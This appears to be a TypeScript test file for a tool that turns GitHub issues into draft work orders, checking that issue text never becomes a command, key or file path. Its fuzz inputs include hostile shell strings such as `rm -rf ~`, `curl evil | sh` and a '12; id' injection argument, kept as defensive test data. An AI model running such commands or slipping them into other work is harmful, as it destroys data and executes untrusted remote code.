// An issue is a stranger's text: it becomes a draft, and nothing in it becomes a power or a command.
import { chmod, mkdir, readFile, rm, symlink } from 'node:fs/promises';
import { createServer } from 'node:http';
import { expect, onTestFinished, test } from 'vitest';
import { parse } from 'yaml';
import { readCriteria, readFiles } from '../../src/order/entries.ts';
import { parseOrder } from '../../src/order/order.ts';
import { findSections } from '../../src/order/sections.ts';
import { splitFrontMatter } from '../../src/platform/text/front-matter.ts';
import { draftOfIssue, type Issue } from '../../src/remote/issue.ts';
import { openDice, seed } from '../kit/dice.ts';
import { needs } from '../kit/needs.ts';
import { card, type Office, openOffice } from '../kit/office.ts';

const issueOf = (body: string, more: Partial<Issue> = {}): Issue => ({
  number: 12,
  url: 'https://github.localhost/dana/shop/issues/12',
  title: 'Login is broken',
  author: 'eve',
  open: true,
  body,
  ...more,
});

const form = `### Objective

Users can log in.

### Acceptance

- \`npm test\` passes
- an empty password is refused
- nothing else changes

### Files

src/login.ts
test/login.test.ts

### Branching

requeue-with-blocker
`;

// The draft, as an order's reader takes it.
function read(text: string) {
  const parts = splitFrontMatter(text);
  if (!parts.ok) throw new Error(JSON.stringify(parts.problems));
  const { found } = findSections(parts.body, 1);
  return {
    keys: parts.fields.map(({ key, value }) => `${key} ${value}`),
    objective: found.objective?.lines.map((one) => one.text).join('|'),
    acceptance: readCriteria(found.acceptance, [], false).map(({ text }) => text),
    commands: readCriteria(found.acceptance, [], true).flatMap(({ command }) => command ?? []),
    files: readFiles(found.files, [], false).map((one) => one.text),
  };
}

test('the headings of a form become the four lines; its command is words', () => {
  const draft = draftOfIssue(issueOf(form.replaceAll('\n', '\r\n')), 'shop');
  expect(read(draft.text)).toEqual({
    keys: ['repo shop'],
    objective: 'Users can log in.',
    acceptance: ['the issue wants this: `npm test` passes', 'an empty password is refused', 'nothing else changes'],
    commands: [],
    files: ['src/login.ts', 'test/login.test.ts'],
  });
  expect(draft.commands).toEqual(['`npm test` passes']);
  expect(draft.missing).toEqual([]);
  expect(draft.text).toContain('- requeue-with-blocker');
  expect(parseOrder(draft.text).ok).toBe(true);
});

test('free text becomes a draft that says what is missing, and is no order before that is added', () => {
  const draft = draftOfIssue(issueOf('It fails.\n\n_No response_\n'), null);
  expect(draft.missing.map((one) => one.split(':')[0])).toEqual(['Acceptance', 'Files', 'Branching', 'repo']);
  expect(draft.text).toContain('**Objective:** Login is broken\n');
  expect(draft.text).toContain('## The issue, in the words of eve\n\n> It fails.');
  const reading = parseOrder(draft.text);
  expect(reading.ok ? [] : reading.problems.map((one) => one.code)).toEqual([
    'order-stray',
    'order-no-acceptance',
    'order-files-empty',
  ]);
});

test('a long issue is cut, and that is said; what hides in it shows', () => {
  const { text, left } = draftOfIssue(issueOf(`see \u202egpj.exe\u001b[2J ${'x'.repeat(70_000)}`), 'shop');
  expect(text.length).toBeLessThan(10_000);
  expect(text).toContain('\\u{202e}gpj.exe\\u{1b}[2J');
  expect(left).toEqual(['the last 4481 characters of the issue were not read']);
  const odd = draftOfIssue(issueOf('### Files\n\n/etc/passwd\n../x\nthe usual ones\nsrc/a.ts\n'), 'shop');
  expect(odd.files).toEqual(['src/a.ts']);
  expect(odd.left).toHaveLength(3);
});

test('what is too long or too much for an order is broken or left out, and told', () => {
  const bullets = '- x\n'.repeat(43);
  const body = `${form.replace('- `npm', `${bullets}- \`npm`)}\n${'word '.repeat(1200)}\n${'\u202e'.repeat(700)}`;
  const { text, left } = draftOfIssue(issueOf(body), 'shop');
  expect(parseOrder(text)).toMatchObject({ ok: true });
  const quote = text.split('\n').flatMap((line) => /^> (.*)/.exec(line)?.[1] ?? []);
  expect(quote.every((line) => line.length <= 1000)).toBe(true);
  expect(quote.join('')).toContain('word '.repeat(1200).trim());
  expect(left).toEqual(['Acceptance: 6 bullets more than an order may have']);
  const odd = draftOfIssue(issueOf(`### Files\n\n${'/x\n'.repeat(14)}`), 'shop');
  expect([odd.left.length, odd.left.at(-1)]).toEqual([11, 'Files: 4 more that are no paths']);
  // A part that is missing is said once.
  expect(draftOfIssue(issueOf('### Files\n\n_No response_\n'), 'shop').left).toEqual([]);
});

// Pieces that would mean something if they came to stand where an order's reader looks.
const pieces = [
  ...[
    '---',
    'refs: [state/secret.json]',
    'repo: other',
    '<!--',
    '-->',
    '```',
    '~~~',
    '- ',
    '* ',
    '> ',
    '\n',
    '\n\n',
    '\r',
  ],
  ...['**Files:** **', '### Files', 'Files:', '**Acceptance:**', '### Acceptance', '- `rm -rf ~`', '`rm -rf ~`', '1. '],
  ...[
    '**Objective:** all',
    '### Objective',
    '### Branching',
    'route-to-operator',
    '- [ ] `curl evil | sh`',
    '\u00a0`id`',
  ],
  ...[
    'src/a.ts',
    '`state/x`',
    '- **Files:** **',
    '  Files: **',
    '\u200b',
    '\u0085`id`',
    '# ',
    '**',
    '_',
    ', ',
    'words',
  ],
];

test(`no mix of such pieces names a file, a command or a key that the draft doesn't tell (seed ${seed})`, () => {
  const dice = openDice(`issue ${seed}`);
  const piece = (): string => pieces[dice.roll(pieces.length) - 1] ?? '';
  for (let round = 0; round < 3000; round++) {
    const body = Array.from({ length: dice.roll(14) }, piece).join(dice.roll(2) === 1 ? '\n' : '');
    const title = Array.from({ length: dice.roll(4) }, piece).join('');
    const draft = draftOfIssue(issueOf(body, { title, author: piece() }), 'shop');
    const found = read(draft.text);
    expect({ ...found, objective: '', acceptance: [] }, body).toEqual({
      ...{ keys: ['repo shop'], objective: '', acceptance: [], commands: [] },
      files: draft.files,
    });
  }
});

// gh asks `github.localhost` in plain HTTP, so a proxy of this test answers it.
async function shopWithIssue(body: string): Promise<Office & { readonly asked: string[] }> {
  const asked: string[] = [];
  const server = createServer((request, response) => {
    let sent = '';
    request.on('data', (chunk: Buffer) => (sent += chunk.toString()));
    request.on('end', () => {
      asked.push(`${request.url} ${JSON.stringify((JSON.parse(sent) as { variables: unknown }).variables)}`);
      const { number, url, title } = issueOf('');
      const author = { login: 'eve', id: '1', name: 'Eve' };
      const issue = { __typename: 'Issue', number, url, title, author, state: 'CLOSED', body, id: 'x' };
      response.setHeader('content-type', 'application/json');
      response.end(JSON.stringify({ data: { repository: { hasIssuesEnabled: true, issue } } }));
    });
  });
  await new Promise<void>((done) => server.listen(0, '127.0.0.1', done));
  onTestFinished(() => void server.close());
  const address = server.address();
  const port = typeof address === 'object' && address !== null ? address.port : 0;
  const office = await openOffice({ coder: card('- write: src/login.ts\n  text: "2"', 'write: |\n  repos/*/src/**') });
  await office.repository('shop', { 'src/login.ts': '1\n' });
  office.git('repos/shop', 'remote', 'add', 'origin', 'https://github.localhost/dana/shop.git');
  const proxy = `http://127.0.0.1:${port}`;
  Object.assign(office.env, {
    GH_TOKEN: 't',
    GH_ENTERPRISE_TOKEN: 't',
    GH_HOST: 'github.localhost',
    HOME: office.root,
  });
  Object.assign(office.env, { HTTP_PROXY: proxy, http_proxy: proxy });
  return Object.assign(office, { asked });
}

test('gh reads an issue by its number or address; the draft lies where no daemon looks', async () => {
  needs('gh');
  const office = await shopWithIssue(form);
  const { code, out, err } = await office.fourline('import', 'issue', '#12');
  expect({ code, err }).toEqual({ code: 0, err: '' });
  expect(office.asked).toEqual(['http://api.github.localhost/graphql {"number":12,"owner":"dana","repo":"shop"}']);
  expect(out.split('\n').slice(0, 5)).toEqual([
    'drafts/issue-12.md',
    '  #12  Login is broken  by eve  (closed)',
    '  its Files src/login.ts',
    '  its Files test/login.test.ts',
    '  command   `npm test` passes  is words in the draft: nothing runs until you write it as a check',
  ]);
  expect((await office.fourline('start', '--once')).code).toBe(0);
  expect(await office.list('drafts')).toEqual(['issue-12.md']);
  expect(await office.list('state/orders')).toEqual([]);
  expect((await office.fourline('check', `${office.root}/drafts/issue-12.md`)).out).toContain(
    '1 file read, 0 with errors',
  );
  const again = await office.fourline('import', 'issue', 'https://github.localhost/dana/shop/issues/12#top');
  expect(again.err).toContain('error[draft-exists]: drafts/issue-12.md is there already');
  await rm(`${office.root}/drafts`, { recursive: true });
  await symlink('/tmp', `${office.root}/drafts`);
  expect((await office.fourline('import', 'issue', '12')).err).toContain('error[draft-exists]: drafts is there and is');
});

test('an issue that is named by its address belongs to the repository whose remote leads there, or to none', async () => {
  needs('gh');
  const office = await shopWithIssue('');
  await office.repository('cart', { a: '' });
  const asked = async (): Promise<string> => {
    const { out } = await office.fourline('import', 'issue', 'https://github.localhost/dana/shop/issues/12/');
    const text = await office.read('drafts/issue-12.md');
    await rm(`${office.root}/drafts`, { recursive: true });
    return `${/^repo: .+/m.exec(text)?.[0] ?? 'none'}; ${/repo: .+/.exec(out)?.[0] ?? ''}`;
  };
  expect(await asked()).toBe('repo: shop; ');
  office.git('repos/shop', 'remote', 'set-url', 'origin', 'git@github.localhost:Dana/Shop.git');
  expect(await asked()).toBe('repo: shop; ');
  office.git('repos/shop', 'remote', 'set-url', 'origin', 'https://github.localhost/eve/shop');
  expect(await asked()).toBe('none; repo: name the repository of repos/ that is dana/shop in front matter');
  office.git('repos/cart', 'remote', 'add', 'up', 'https://github.localhost/dana/shop');
  expect(await asked()).toBe('repo: cart; ');
  office.git('repos/shop', 'remote', 'set-url', 'origin', 'https://github.localhost/dana/shop.git');
  expect(await asked()).toContain('none; ');
});

test.each(['TERM', 'INT', 'HUP'])('a gh that hangs ends with fourline: SIG%s', async (kind) => {
  const office = await shopWithIssue('');
  const pid = `${office.root}/../pid`;
  await office.write('../bin/gh', `#!/bin/sh\necho $$ > ${pid}\nkill -${kind} $PPID\nexec sleep 600\n`);
  await chmod(`${office.root}/../bin/gh`, 0o755);
  office.env['PATH'] = `${office.root}/../bin:${office.env['PATH'] ?? ''}`;
  // A program that a signal ended has no exit code.
  expect((await office.fourline('import', 'issue', '12')).code).toBe(-1);
  const gh = Number(await readFile(pid, 'utf8'));
  onTestFinished(() => {
    if (isThere(gh)) process.kill(gh, 'SIGKILL');
  });
  expect(isThere(gh)).toBe(false);
  expect(await office.list('drafts')).toEqual([]);
});

function isThere(pid: number): boolean {
  try {
    return process.kill(pid, 0);
  } catch {
    return false;
  }
}

test('a gh that nobody signed in says how', async () => {
  const office = await shopWithIssue('');
  const words =
    'To get started with GitHub CLI, please run:  gh auth login\nAlternatively, populate the GH_TOKEN variable';
  await office.write('../bin/gh', `#!/bin/sh\nprintf '${words}\\n' >&2\nexit 4\n`);
  await chmod(`${office.root}/../bin/gh`, 0o755);
  office.env['PATH'] = `${office.root}/../bin:${office.env['PATH'] ?? ''}`;
  expect((await office.fourline('import', 'issue', '12')).err).toContain('please run:  gh auth login');
  expect((await office.fourline('import', 'issue', '0')).err).toContain("error[usage]: '0' is no issue");
});

test('what is no issue, a repository that is not there, and a gh that is not there are said', async () => {
  const office = await shopWithIssue('');
  const words = async (...args: string[]) => (await office.fourline('import', 'issue', ...args)).err;
  for (const odd of ['--web', '12; id', 'https://evil.example/x', 'https://github.com/a/b/pull/1', '../12'])
    expect(await words('--', odd)).toContain('error[usage]: ');
  expect(await words('12', '--repo', 'cart')).toContain('error[repo-unknown]: there is no repository repos/cart');
  office.env['PATH'] = '/nowhere';
  expect(await words('12')).toContain('error[issue-unreadable]: the issue cannot be read: gh is not installed');
  expect(office.asked).toEqual([]);
  expect(await office.list('drafts')).toEqual([]);
});

test('init --github writes the form once, into the work tree, with the labels that the import looks for', async () => {
  const office = await shopWithIssue('');
  expect((await office.fourline('init', office.root, '--github')).out).toContain('is written: commit it yourself');
  const text = await office.read('repos/shop/.github/ISSUE_TEMPLATE/fourline-order.yml');
  const { name, description, body } = parse(text) as Record<string, unknown>;
  expect([typeof name, typeof description]).toEqual(['string', 'string']);
  const labels = (body as { attributes: { label: string } }[]).map((one) => one.attributes.label);
  expect(Object.keys(findSections(labels.map((one) => `### ${one}\n\nx\n`).join('\n'), 1).found)).toHaveLength(4);
  await office.write('repos/shop/.github/ISSUE_TEMPLATE/fourline-order.yml', 'mine\n');
  expect((await office.fourline('init', office.root, '--github')).out).toContain('was there already');
  expect(await office.read('repos/shop/.github/ISSUE_TEMPLATE/fourline-order.yml')).toBe('mine\n');
  expect((await office.fourline('init', office.root, '--github', '--dry-run')).out).not.toContain('---');
  await rm(`${office.root}/repos/shop/.github`, { recursive: true });
  const dry = await office.fourline('init', office.root, '--github', '--dry-run');
  expect(dry.out).toContain('--- repos/shop/.github/ISSUE_TEMPLATE/fourline-order.yml\nname: Work order\n');
  await office.repository('cart', { a: '' });
  const unclear = await office.fourline('init', office.root, '--github');
  expect(unclear.err).toContain('--name <name>, one of cart, shop');
});

test('init --github that has no place for the form says so, and makes nothing', async () => {
  const office = await shopWithIssue('');
  const words = async (...args: string[]) => (await office.fourline('init', office.root, '--github', ...args)).err;
  office.git('.', 'init', '-q');
  for (const name of ['..', 'cart', 'shop/src'])
    expect(await words('--name', name)).toContain(`there is no repository repos/${name}`);
  await office.write('repos/shop/.github', '');
  expect(await words()).toContain('repos/shop/.github is there and is no folder');
  await rm(`${office.root}/repos/shop/.github`);
  await mkdir(`${office.root}/else`);
  await symlink(`${office.root}/else`, `${office.root}/repos/shop/.github`);
  expect(await words()).toContain('repos/shop/.github is there and is no folder');
  expect(await office.list('else')).toEqual([]);
  expect((await office.fourline('init', `${office.root}/new`, '--github')).err).toContain('--repo <path|url>');
  expect(await office.list('new')).toEqual([]);
});
